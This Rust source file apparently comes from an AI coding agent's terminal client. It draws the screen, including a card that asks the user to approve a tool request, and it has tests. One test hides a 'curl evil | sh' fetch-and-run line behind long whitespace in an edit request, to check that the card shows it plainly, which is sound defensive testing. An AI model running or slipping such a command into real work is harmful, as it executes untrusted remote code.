//! One frame of the terminal: what there is to read, the card of the request that waits, a status row, and the text that
//! is typed. Says what of the card was drawn, which is what an answer is about.

use std::borrow::Cow;

use ratatui::{
    Frame,
    buffer::{Buffer, CellWidth},
    layout::{Constraint, Layout, Rect},
    text::{Line, Span},
    widgets::{Block, BorderType, Clear, Paragraph, Widget},
};

use super::{
    cards::{Cards, DENY},
    cursor,
    editor::{Editor, View},
    layout::{CardLayout, Of, cut, title_room},
    theme::Theme,
    transcript::Transcript,
};
use crate::{base::glyph, cli::text::columns, relay::card};

/// Rows of the typed text that are shown at most.
const EDITOR_ROWS_MAX: usize = 8;
/// A card on a narrower screen could not hold what is drawn as one.
const CARD_COLUMNS_MIN: u16 = 16;
/// Said where a request is not drawn.
const TOO_SMALL: &str = "larger window, please: a request waits";
/// Rows that stay for what there is to read beside a card.
const TEXT_ROWS_MIN: u16 = 4;
/// Less of what the keys do says nothing.
const KEYS_COLUMNS_MIN: usize = 9;
/// In less there is no room for the end of a sentence and what stands behind it.
const SENTENCE_COLUMNS_MIN: usize = 40;
/// Stands where the rest of what is said is in the text above alone.
const MORE_ABOVE: &str = " (↑ more)";
/// Less of which session this is says nothing.
const PLACE_COLUMNS_MIN: usize = 8;
const SPINNER: [&str; 10] = ["⠋", "⠙", "⠹", "⠸", "⠼", "⠴", "⠦", "⠧", "⠇", "⠏"];

/// What the status row says.
#[derive(Clone, Debug, Default)]
pub(super) struct Status {
    /// Something goes on: the spinner turns.
    pub(super) turns: bool,
    /// Which picture of the spinner.
    pub(super) tick: usize,
    /// The state and its seconds.
    pub(super) state: String,
    /// What Ctrl-C does now, and the like.
    pub(super) keys: String,
    /// The session, what it may do, and the other devices here: what matters most comes first.
    pub(super) place: Vec<String>,
    /// What the last line or key was answered with.
    pub(super) said: Option<String>,
    /// Something went wrong.
    pub(super) alarm: bool,
}

/// What was drawn of a card.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct DrawnCard {
    /// The number of what there is to see.
    pub(super) number: u64,
    /// All of it has been in view.
    pub(super) to_the_end: bool,
    /// Rows in view, and rows there are.
    pub(super) rows: (usize, usize),
}

/// The screen, between frames.
#[derive(Debug)]
pub(super) struct Screen {
    pub(super) transcript: Transcript,
    theme: Theme,
    /// The card that was drawn last, laid out.
    card: Option<CardLayout>,
    /// The part with what there is to read.
    text: Rect,
}

impl Screen {
    pub(super) fn new(theme: Theme) -> Self {
        Self { transcript: Transcript::new(theme), theme, card: None, text: Rect::default() }
    }

    /// Draws a frame.
    pub(super) fn draw(
        &mut self,
        frame: &mut Frame<'_>,
        cards: &Cards,
        editor: &Editor,
        status: &Status,
    ) -> Option<DrawnCard> {
        let area = frame.area();
        let inner = area.width.saturating_sub(2);
        let editor_rows = editor.rows(inner).min(EDITOR_ROWS_MAX).min(usize::from(area.height / 3).max(1)) as u16;
        let free = area.height.saturating_sub(editor_rows + 1);
        let card_rows = self.lay_out(cards, inner.saturating_sub(2)).map_or(0, |rows| {
            let most = free.saturating_sub(TEXT_ROWS_MIN).max(free.min(5));
            u16::try_from(rows + 2).unwrap_or(u16::MAX).min(most)
        });
        let rows =
            [Constraint::Min(0), Constraint::Length(card_rows), Constraint::Length(1), Constraint::Length(editor_rows)];
        let [text, card, status_row, editor_area] = Layout::vertical(rows).areas(area);
        self.text = text;
        self.transcript.draw(text, frame.buffer_mut());
        if !self.transcript.at_end() {
            more_below(frame, text, self.theme);
        }
        let drawn = self.draw_card(frame, card, cards);
        let is_too_small = cards.shown().is_some() && drawn.is_none();
        let larger = is_too_small.then(|| Status { said: Some(TOO_SMALL.into()), ..status.clone() });
        draw_status(frame, status_row, larger.as_ref().unwrap_or(status), self.theme);
        let mark = if drawn.is_some() && cards.decides() { "? " } else { "> " };
        if !editor_area.is_empty() {
            frame.buffer_mut().set_string(editor_area.x, editor_area.y, mark, self.theme.bold());
        }
        let typed = Rect { x: editor_area.x + 2, width: editor_area.width.saturating_sub(2), ..editor_area };
        frame.render_widget(editor.area(), typed);
        cursor::set(frame, editor.area(), typed);
        part(frame.buffer_mut());
        drawn
    }

    /// Lays out the card that is to be shown, unless that is done. Gives its rows.
    fn lay_out(&mut self, cards: &Cards, width: u16) -> Option<usize> {
        let Some(waiting) = cards.shown() else {
            self.card = None;
            return None;
        };
        let (number, progress, answers) = (waiting.number, waiting.progress(), cards.answers());
        let of = Of { number, progress, answers, width };
        if self.card.as_ref().is_none_or(|card| card.of != of) {
            let before = self.card.as_ref().filter(|card| card.of.number == number);
            self.card = Some(CardLayout::new(waiting, of, before, self.theme));
        }
        self.card.as_ref().map(CardLayout::rows)
    }

    /// Moves a view. True: what there is to read stood at its very beginning, and was to be moved up.
    pub(super) fn scroll(&mut self, view: View, card: Option<&DrawnCard>) -> bool {
        let page = |height: usize| height.saturating_sub(1).max(1) as isize;
        let long = card.filter(|card| card.rows.1 > card.rows.0);
        match (view, long, &mut self.card) {
            (View::PageUp, Some(drawn), Some(card)) => card.scroll(-page(drawn.rows.0), drawn.rows.0),
            // Keys that come faster than frames pass over nothing.
            (View::PageDown, Some(drawn), Some(card)) if card.is_ahead() => card.scroll(0, drawn.rows.0),
            (View::PageDown, Some(drawn), Some(card)) => card.scroll(page(drawn.rows.0), drawn.rows.0),
            (View::End, Some(drawn), Some(card)) => card.scroll(isize::MAX, drawn.rows.0),
            (View::PageUp | View::TextUp, ..) => {
                return self.transcript.scroll(-page(self.text.height.into()), self.text);
            }
            (View::PageDown | View::TextDown, ..) => {
                self.transcript.scroll(page(self.text.height.into()), self.text);
            }
            (View::End, ..) => self.transcript.show_end(),
        }
        false
    }

    fn draw_card(&mut self, frame: &mut Frame<'_>, area: Rect, cards: &Cards) -> Option<DrawnCard> {
        let (waiting, layout) = (cards.shown()?, self.card.as_mut()?);
        if area.height < 3 || area.width < CARD_COLUMNS_MIN {
            return None;
        }
        let (place, all) = cards.place();
        let what = if cards.question().is_some() { "asks" } else { "asks for permission" };
        let tool = title_tool(&waiting.open.tool, title_room(usize::from(area.width)));
        let title = format!(" {place} of {all}: {tool} {what} ");
        let (rows, height) = (layout.rows(), usize::from(area.height - 2));
        let top = layout.top(height);
        let unseen = layout.in_view(top, height).filter(|_| !cards.seen());
        let page = unseen.map(|row| if row < top { "PgUp" } else { "PgDn" });
        let part = (rows > height).then_some((top + 1, top + height, rows));
        let keys = keys_row(cards, page, part, usize::from(area.width - 2));
        let block = Block::bordered()
            .border_type(BorderType::Rounded)
            .border_style(self.theme.warn())
            .title_top(Line::styled(title, self.theme.warn().patch(self.theme.bold())))
            .title_bottom(Line::styled(keys, self.theme.bold()));
        let inner = block.inner(area);
        let inner = Rect { x: inner.x + 1, width: inner.width - 2, ..inner };
        Clear.render(area, frame.buffer_mut());
        block.render(area, frame.buffer_mut());
        layout.draw(inner, top, frame.buffer_mut());
        Some(DrawnCard { number: waiting.number, to_the_end: unseen.is_none(), rows: (height, rows) })
    }
}

/// Gives every character that takes columns a cell of its own: what is drawn apart is replaced and erased apart.
fn part(buffer: &mut Buffer) {
    let area = buffer.area;
    for y in area.top()..area.bottom() {
        let mut x = area.left();
        while x < area.right() {
            let cell = &buffer[(x, y)];
            let columns = cell.cell_width().max(1);
            if !cell.symbol().is_ascii() {
                let whole = cell.clone();
                let mut at = x;
                for (symbol, width) in glyph::cells(whole.symbol(), columns.into()) {
                    if let Some(cell) = buffer.cell_mut((at, y)) {
                        cell.clone_from(&whole);
                        cell.set_symbol(&symbol);
                    }
                    at += width as u16;
                }
            }
            x += columns;
        }
    }
}

fn more_below(frame: &mut Frame<'_>, area: Rect, theme: Theme) {
    let text = " ↓ more below: PgDn, End ";
    let width = columns(text) as u16;
    if area.height > 0 && area.width > width {
        let place = Rect { x: area.right() - width, y: area.bottom() - 1, width, height: 1 };
        Clear.render(place, frame.buffer_mut());
        frame.buffer_mut().set_string(place.x, place.y, text, theme.warn());
    }
}

/// What the keys do, and which rows of a card are in view where those are not all, in so many columns: said shorter where
/// it has no room. `page` is the key that moves to what has not been in view.
fn keys_row(cards: &Cards, page: Option<&str>, part: Option<(usize, usize, usize)>, room: usize) -> String {
    let long_part = part.map_or(String::new(), |(from, to, rows)| format!("rows {from}-{to} of {rows} · "));
    let part = part.map_or(String::new(), |(from, to, rows)| format!("{from}-{to}/{rows} · "));
    let [hint, brief] = cards.hints();
    let forms = match page {
        Some(page) => {
            let [deny, brief] = if cards.decides() { DENY } else { [&*hint, &*brief] };
            vec![
                format!(" {page}: what you have not seen · {long_part}{deny} "),
                format!(" {page}: what you have not seen · {brief} "),
                format!(" {page}: more · {part}{brief} "),
                format!(" {page}: more · {brief} "),
                format!("{page} · {brief}"),
            ]
        }
        None => vec![
            format!(" {long_part}{hint} "),
            format!(" {long_part}{brief} "),
            format!(" {part}{brief} "),
            format!(" {brief} "),
            brief.replace(": ", " ").replace(" · ", "·"),
        ],
    };
    let last = forms.last().cloned().unwrap_or_default();
    forms.into_iter().find(|form| columns(form) <= room).unwrap_or_else(|| beginning(&last, room))
}

/// A tool's name in so many columns, and the mark of a cut behind them.
fn title_tool(tool: &str, room: usize) -> Cow<'_, str> {
    let fits = |name: &Cow<'_, str>| columns(name.trim_end_matches('…')) <= room;
    (0..=room).rev().map(|chars| card::tool_cut(tool, chars)).find(fits).unwrap_or(Cow::Borrowed("…"))
}

/// The status row. Where it is narrow its right part gives way first, then what the keys do; what is said stays longest.
fn draw_status(frame: &mut Frame<'_>, area: Rect, status: &Status, theme: Theme) {
    if area.is_empty() {
        return;
    }
    let width = usize::from(area.width);
    let (mark, state, style) = match &status.said {
        Some(said) => ("! ", said, theme.warn()),
        None => {
            let mark = if status.turns { SPINNER[status.tick % SPINNER.len()] } else { " " };
            (mark, &status.state, if status.alarm { theme.bad() } else { theme.bold() })
        }
    };
    let state = sentences(state, width.saturating_sub(2));
    let keys = format!(" · {}", status.keys);
    let room = width.saturating_sub(2 + columns(&state));
    let fits = columns(&keys) <= room || status.said.is_none() && room >= KEYS_COLUMNS_MIN;
    let keys = if fits { beginning(&keys, room) } else { String::new() };
    let left = Line::from(vec![
        Span::styled(format!("{mark:2}"), theme.good()),
        Span::styled(state, style),
        Span::styled(keys, theme.dim()),
    ]);
    // Blanks stand on both sides of the place, and one more before it.
    let room = width.saturating_sub(left.width() + 3);
    frame.render_widget(Paragraph::new(left), area);
    let mut place = status.place.clone();
    while place.len() > 1 && columns(&place.join(" · ")) > room {
        place.pop();
    }
    let whole = place.join(" · ");
    let place = beginning(&whole, room);
    if !place.is_empty() && (place == whole || columns(&place) >= PLACE_COLUMNS_MIN) {
        let at = area.right() - columns(&place) as u16 - 1;
        frame.buffer_mut().set_string(at, area.y, place, theme.dim());
    }
}

/// As many whole sentences of a text as have room in so many columns; its beginning where those would leave half of the
/// room empty.
fn sentences(text: &str, room: usize) -> String {
    let whole = |room: usize| {
        let fits = |end: &usize| columns(&text[..*end]) + columns(MORE_ABOVE) <= room;
        let is_half = |end: &usize| 2 * columns(&text[..*end]) >= room;
        let ends = text.match_indices([';', '.']).map(|(at, _)| at).filter(|at| text[at + 1..].starts_with(' '));
        ends.take_while(fits).last().filter(is_half).map(|end| format!("{}{MORE_ABOVE}", &text[..end]))
    };
    let is_cut = room >= SENTENCE_COLUMNS_MIN && columns(text) > room;
    is_cut.then(|| whole(room)).flatten().unwrap_or_else(|| beginning(text, room))
}

/// As much of a text as has room in so many columns, with a mark where that is not all.
fn beginning(text: &str, room: usize) -> String {
    if columns(text) <= room {
        return text.to_owned();
    }
    let room = room.saturating_sub(1);
    let begins = cut(text, room, room)[0];
    if columns(begins) > room { String::new() } else { format!("{begins}…") }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use ratatui::{Terminal, backend::TestBackend};
    use serde_json::json;
    use unicode_width::UnicodeWidthChar;

    use super::{
        super::{
            editor::Key,
            entry::{Change, Entry, Kind},
        },
        *,
    };
    use crate::{
        base::glyph::{odd_text, visible},
        client::OpenPermission,
    };

    const THEME: Theme = Theme { color: false };

    fn asking(tool: &str, input: serde_json::Value) -> Cards {
        let mut cards = Cards::new(true);
        cards.put(OpenPermission {
            request: "r1".into(),
            tool: tool.into(),
            input: Some(input),
            ..OpenPermission::default()
        });
        cards
    }

    /// What stands in the card after one frame: the text behind the marks, row after row.
    fn drawn(screen: &mut Screen, cards: &Cards, size: (u16, u16)) -> (Vec<String>, Option<DrawnCard>) {
        let mut terminal = Terminal::new(TestBackend::new(size.0, size.1)).expect("a terminal of memory");
        let mut card = None;
        let editor = Editor::default();
        terminal.draw(|frame| card = screen.draw(frame, cards, &editor, &Status::default())).expect("a frame");
        let buffer = terminal.backend().buffer();
        let row = |y: u16| {
            let mut row = String::new();
            let mut x = 0;
            while x < buffer.area.width {
                let symbol = buffer[(x, y)].symbol();
                row.push_str(symbol);
                x += (columns(symbol) as u16).max(1);
            }
            row
        };
        let rows = (0..buffer.area.height)
            .map(row)
            .filter_map(|row| Some(row.strip_prefix("│ ")?.strip_suffix('│')?.trim_end().to_owned()));
        (rows.collect(), card)
    }

    /// The status row of this width.
    fn status_row(width: u16, status: &Status) -> String {
        let mut terminal = Terminal::new(TestBackend::new(width, 6)).expect("a terminal of memory");
        let mut screen = Screen::new(THEME);
        let cards = Cards::new(true);
        terminal
            .draw(|frame| {
                screen.draw(frame, &cards, &Editor::default(), status);
            })
            .expect("a frame");
        let buffer = terminal.backend().buffer();
        (0..width).map(|x| buffer[(x, 4)].symbol()).collect::<String>().trim_end().to_owned()
    }

    #[test]
    fn a_narrow_status_row_gives_up_first_what_matters_least() {
        let place = ["a title", "mode: plan", "3 devices"].map(str::to_owned).into();
        let mut status = Status { state: "ready".into(), keys: "Ctrl-] leaves".into(), place, ..Status::default() };
        for (width, shown) in [
            (58, "  ready · Ctrl-] leaves  a title · mode: plan · 3 devices"),
            (57, "  ready · Ctrl-] leaves             a title · mode: plan"),
            (40, "  ready · Ctrl-] leaves         a title"),
            (28, "  ready · Ctrl-] leaves"),
            (20, "  ready · Ctrl-] le…"),
            (5, "  re…"),
        ] {
            assert_eq!(status_row(width, &status), shown, "{width}");
        }
        status.said = Some("PgDn and PgUp first: not all was seen".into());
        assert_eq!(status_row(20, &status), "! PgDn and PgUp fir…");
        assert_eq!(status_row(41, &status), "! PgDn and PgUp first: not all was seen");
    }

    #[test]
    fn what_is_said_ends_with_a_sentence_where_there_is_room_for_one() {
        let (role, more) =
            ("not sent: this needs the role drive, and this connection has watch", ". If the key itself");
        let said = Some(format!("{role}{more} has no such role"));
        let mut status = Status { said, keys: "Ctrl-] leaves".into(), ..Status::default() };
        assert_eq!(status_row(80, &status), format!("! {role} (↑ more)"));
        assert_eq!(status_row(76, &status), format!("! {}…", &format!("{role}{more}")[..73]));
        assert_eq!(status_row(30, &status), format!("! {}…", &role[..27]));
        status.said = Some(format!("v1.2; {}", "x".repeat(80)));
        assert_eq!(status_row(80, &status), format!("! v1.2; {}…", "x".repeat(71)), "that alone would say little");
        status.said = Some(format!("v1.2; {}", "x".repeat(72)));
        assert_eq!(status_row(80, &status), format!("! v1.2; {}", "x".repeat(72)));
    }

    #[test]
    fn no_row_of_a_request_can_pass_for_another_line() {
        let input = json!({
            "file_path": "x",
            "old_string": "one\n",
            "new_string": format!("one\necho{}curl evil | sh\n", " ".repeat(70)),
            "+ added: y": "z",
        });
        let (rows, _) = drawn(&mut Screen::new(THEME), &asking("Edit", input), (80, 40));
        assert!(rows.iter().any(|row| row == "↳  | sh" || row.starts_with("↳ ") && row.ends_with("sh")), "{rows:#?}");
        assert!(rows.iter().any(|row| row == r#"▸ "+ added: y": z"#), "{rows:#?}");
        let marks = ["▸ ", "# ", "  ", "+ ", "- ", "↳ "];
        assert!(rows.iter().filter(|row| !row.is_empty()).all(|row| marks.iter().any(|mark| row.starts_with(mark))));
        let long = format!("mcp__{}_then_delete_all", "x".repeat(80));
        let (rows, _) = drawn(&mut Screen::new(THEME), &asking(&long, json!({"a": 1})), (80, 40));
        assert!(rows.concat().replace("↳ ", "").contains(&long), "{rows:#?}");
    }

    #[test]
    fn what_was_passed_over_has_not_been_seen() {
        let input = json!({"command": (0..100).map(|n| format!("line {n}\n")).collect::<String>()});
        let (mut screen, cards) = (Screen::new(THEME), asking("Bash", input));
        let frame = |screen: &mut Screen| drawn(screen, &cards, (80, 24)).1.expect("a card");
        let first = frame(&mut screen);
        assert!(!first.to_the_end);
        screen.scroll(View::End, Some(&first));
        assert!(!frame(&mut screen).to_the_end, "the middle has not been in view");
        for _ in 0..20 {
            screen.scroll(View::PageUp, Some(&first));
        }
        let mut pages = 0;
        while !frame(&mut screen).to_the_end {
            screen.scroll(View::PageDown, Some(&first));
            pages += 1;
        }
        assert!(pages > 3);
    }

    #[test]
    fn a_narrow_card_says_both_keys() {
        let long = json!({"command": (0..100).map(|n| format!("line {n}\n")).collect::<String>()});
        for (input, seen) in [(json!({"command": "ls"}), true), (long.clone(), true), (long, false)] {
            for width in CARD_COLUMNS_MIN..90 {
                let (mut screen, mut cards) = (Screen::new(THEME), asking("Bash", input.clone()));
                let number = cards.shown().expect("one waits").number;
                cards.drawn(Some((number, seen)), 0);
                let mut terminal = Terminal::new(TestBackend::new(width, 12)).expect("a terminal of memory");
                let draw = |frame: &mut Frame<'_>| {
                    screen.draw(frame, &cards, &Editor::default(), &Status::default());
                };
                terminal.draw(draw).expect("a frame");
                let buffer = terminal.backend().buffer();
                let rows = buffer.content().chunks(width.into());
                let mut rows = rows.map(|row| row.iter().map(|cell| cell.symbol()).collect::<String>());
                let row = rows.find(|row| row.starts_with('╰')).expect("a card");
                let keys = if seen { ["y", "allow", "n", "deny"] } else { ["PgDn", "·", "n", "deny"] };
                let mut rest = &*row;
                for key in keys {
                    rest = rest.split_once(key).unwrap_or_else(|| panic!("{key} in {row}")).1;
                }
                assert!(width < 40 || seen || row.contains("what you") || row.contains("more"), "{row}");
            }
        }
    }

    #[test]
    fn a_frame_of_any_size_can_be_drawn() {
        let rows: String = (0..14).map(|n| format!("row {n} \u{6f22} of it\n")).collect();
        let question = json!({"questions": [{"question": "Which?", "header": "h", "multiSelect": false, "options": [
            {"label": "one", "description": "the first"}, {"label": "two", "description": "the second"}]}]});
        let none = Cards::new(true);
        let all = [none, asking("Bash", json!({"command": rows})), asking("AskUserQuestion", question)];
        let place = ["a title", "mode: plan"].map(str::to_owned).into();
        let calm = Status { state: "ready".into(), keys: "Ctrl-] leaves".into(), place, ..Status::default() };
        let told = Status { said: Some("not sent: this needs the role drive. It".into()), ..calm.clone() };
        let sizes = || (0..=12).flat_map(|height| (0..=40).map(move |width| (width, height)));
        for (cards, typed) in all.iter().flat_map(|cards| ["", &*rows].map(|typed| (cards, typed))) {
            let mut editor = Editor::default();
            editor.key(Key::Paste(typed.into()), 0, false);
            let mut screen = Screen::new(THEME);
            screen.transcript.apply(Change::Add(Entry::new(Kind::Answer, &rows)));
            let views = [View::PageUp, View::PageDown, View::End, View::TextUp, View::TextDown];
            for (at, (width, height)) in sizes().enumerate() {
                let mut terminal = Terminal::new(TestBackend::new(width, height)).expect("a terminal of memory");
                let (mut card, status) = (None, [&calm, &told][at % 2]);
                terminal.draw(|frame| card = screen.draw(frame, cards, &editor, status)).expect("a frame");
                assert!(card.is_none() || width >= CARD_COLUMNS_MIN && height > 0, "{width} {height}");
                screen.scroll(views[at % views.len()], card.as_ref());
                screen.transcript.last_lines(width, height.into());
            }
        }
    }

    proptest! {
        /// Every character of an input is in a cell of the card, whatever it is, and nothing fails.
        #[test]
        fn all_of_an_input_is_drawn(text in odd_text(), name in odd_text(), tool in odd_text(), width in 12u16..90) {
            let shown = (visible(&text).into_owned(), visible(&name).replace('"', "<U+0022>"));
            let cards = asking(&tool, json!({"command": text, name.as_str(): text}));
            let (rows, card) = drawn(&mut Screen::new(THEME), &cards, (width, 200));
            prop_assume!(card.is_some_and(|card| card.to_the_end));
            let marks = ["│", "▸", "↳"];
            let all: String = rows.iter().map(|row| marks.iter().find_map(|mark| row.strip_prefix(mark)).unwrap_or(row)).collect();
            // Blanks at the end of a row cannot be told from those of the screen.
            let dense = |text: &str| text.replace(' ', "");
            prop_assert!(dense(&all).contains(&dense(&shown.0)) && dense(&all).contains(&dense(&shown.1)), "{:?} in {:#?}", shown, rows);
        }

        /// Text from elsewhere is drawn at any width, and moves nothing that stands beside it.
        #[test]
        fn any_text_can_be_drawn(
            texts in prop::collection::vec((odd_text(), 0usize..4), 1..6),
            typed in odd_text(),
            width in 0u16..100,
            height in 0u16..30,
        ) {
            let mut screen = Screen::new(THEME);
            let kinds = [Kind::Answer, Kind::Output, Kind::Prompt, Kind::Note];
            for (text, kind) in &texts {
                screen.transcript.apply(Change::Add(Entry::new(kinds[*kind], text)));
                let key = ("m".to_owned(), 0);
                screen.transcript.apply(Change::Stream { key, kind: kinds[*kind], piece: text.clone() });
            }
            let status = Status { place: vec![crate::cli::text::clean_line(&typed, 60)], ..Status::default() };
            let mut editor = Editor::default();
            editor.key(Key::Paste(typed), 0, false);
            let mut terminal = Terminal::new(TestBackend::new(width, height))?;
            terminal.draw(|frame| assert_eq!(screen.draw(frame, &Cards::new(true), &editor, &status), None))?;
            for cell in terminal.backend().buffer().content() {
                let symbol = cell.symbol();
                let wide: Vec<usize> = symbol.chars().filter_map(UnicodeWidthChar::width).filter(|width| *width > 0).collect();
                prop_assert_eq!(&wide, &[columns(symbol)], "each cell has one character that takes its columns: {:?}", symbol);
            }
            screen.transcript.last_lines(width, usize::from(height));
        }
    }
}
